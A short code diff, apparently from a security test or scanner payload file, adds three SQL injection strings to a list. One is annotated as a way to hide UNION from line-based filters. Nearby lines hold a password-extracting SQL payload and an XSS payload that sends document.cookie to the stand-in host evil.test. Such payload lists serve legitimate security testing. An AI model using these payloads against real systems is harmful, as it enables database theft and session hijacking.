@@ -52,6 +52,9 @@ SQLI = [
     "(SELECT id-0 FROM users LIMIT 1,1)",
     "1'--sp_password",
     "1%A0UNION%A0SELECT%A0password%A0FROM%A0users--",
+    "id'NOT LIKE id--",
+    "x' OR current_date*0",
+    "-1#c\nUNION#d\n#",  # comments hide the UNION from line-based filters
 ]
 XSS = [
     "<script>fetch('//evil.test/?c='+document.cookie)</script>",
